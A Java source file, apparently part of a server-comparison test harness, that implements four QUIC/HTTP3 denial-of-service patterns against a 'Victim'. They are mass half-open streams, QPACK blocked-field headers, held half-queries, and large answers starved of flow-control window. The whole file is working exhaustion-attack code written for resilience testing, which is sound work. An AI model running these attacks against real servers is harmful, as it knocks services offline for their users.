package dev.onoma.comparison;

import io.netty.handler.codec.quic.QuicStreamChannel;
import io.netty.handler.codec.quic.QuicStreamType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/// What is done over QUIC.
final class QuicDeeds {
    private static final int STREAMS = 100_000;
    private static final int STREAMS_OPEN = 200;
    private static final int CONNECTIONS = 20;
    private static final int PAUSE_MILLIS = 200;
    private static final int NO_WINDOW_OCTETS = 2000;
    private static final int NO_LIMIT_OCTETS = 1 << 20;
    private static final int CANCELLED = 3;

    private QuicDeeds() {}

    private static byte[] half(String door) {
        var query = QuicClient.query(door, Victim.NAME);
        return Arrays.copyOf(query, query.length / 2);
    }

    /// A hundred thousand streams that begin a query and do not end it: as many as there may be
    /// stay open, and the oldest is reset for a new one.
    static Deed streamsWithoutEnd(String door) {
        var left = new AtomicInteger(STREAMS);
        return Deed.again((victim, untilNanos) -> {
            try (var client = new QuicClient(victim, door, Victim.ATTACKER)) {
                var done = new CountDownLatch(1);
                var streams = new Streams(client, half(door), left, untilNanos, done);
                client.channel().eventLoop().execute(streams);
                done.await(untilNanos - System.nanoTime(), TimeUnit.NANOSECONDS);
            }
            if (left.get() <= 0) {
                Thread.sleep(PAUSE_MILLIS);
            }
        });
    }

    /// Opens one stream after the other, on the event loop.
    private record Streams(
            QuicClient client,
            byte[] half,
            AtomicInteger left,
            long untilNanos,
            CountDownLatch done,
            ArrayDeque<QuicStreamChannel> open)
            implements Runnable {
        Streams(
                QuicClient client,
                byte[] half,
                AtomicInteger left,
                long untilNanos,
                CountDownLatch done) {
            this(client, half, left, untilNanos, done, new ArrayDeque<>());
        }

        @Override
        public void run() {
            if (!client.isOpen() || !Deed.isTime(untilNanos) || left.get() <= 0) {
                done.countDown();
                return;
            }
            var opened =
                    client.send(
                            QuicStreamType.BIDIRECTIONAL, half, false, new CompletableFuture<>());
            opened.addListener(_ -> {
                if (opened.isSuccess()) {
                    left.decrementAndGet();
                    open.add(opened.getNow());
                    if (open.size() > STREAMS_OPEN) {
                        var oldest = open.remove();
                        var _ = oldest.shutdown(CANCELLED);
                        var _ = oldest.close();
                    }
                    client.channel().eventLoop().execute(this);
                } else {
                    var _ = client.channel().eventLoop().schedule(this, 1, TimeUnit.MILLISECONDS);
                }
            });
        }
    }

    /// Header fields that refer to entries of QPACK's dynamic table which never come (RFC 9204,
    /// section 2.1.2).
    static Deed blockedFields() {
        return Deed.again((victim, untilNanos) -> {
            try (var client = new QuicClient(victim, "https3", Victim.ATTACKER)) {
                client.greet();
                var fields = new ByteArrayOutputStream();
                fields.writeBytes(new byte[] {2, 0, (byte) 0x80});
                var frame = QuicClient.headers(fields.toByteArray());
                while (client.isOpen() && Deed.isTime(untilNanos)) {
                    var _ =
                            client.send(
                                    QuicStreamType.BIDIRECTIONAL,
                                    frame,
                                    false,
                                    new CompletableFuture<>());
                    Thread.sleep(1);
                }
            }
        });
    }

    /// Connections whose streams have half a query, and nothing comes any more.
    static Deed halfQueries(String door) {
        return held(door, half(door), false, NO_LIMIT_OCTETS);
    }

    /// Large answers for which there is no window.
    static Deed answersNotTaken(String door) {
        return held(door, QuicClient.query(door, Victim.BIG_NAME), true, NO_WINDOW_OCTETS);
    }

    private static Deed held(String door, byte[] octets, boolean end, int windowOctets) {
        return (victim, untilNanos) -> {
            var clients = new ArrayList<QuicClient>();
            try {
                while (Deed.isTime(untilNanos)) {
                    clients.removeIf(client -> !client.isOpen());
                    if (clients.size() < CONNECTIONS) {
                        clients.add(begun(victim, door, octets, end, windowOctets));
                    } else {
                        Thread.sleep(PAUSE_MILLIS);
                    }
                }
            } finally {
                clients.forEach(QuicClient::close);
            }
        };
    }

    private static QuicClient begun(
            Victim victim, String door, byte[] octets, boolean end, int windowOctets)
            throws IOException {
        var client = new QuicClient(victim, door, Victim.ATTACKER, windowOctets);
        if (door.equals("https3")) {
            client.greet();
        }
        for (int i = 0; i < STREAMS_OPEN; i++) {
            var _ =
                    client.send(
                            QuicStreamType.BIDIRECTIONAL, octets, end, new CompletableFuture<>());
        }
        return client;
    }
}
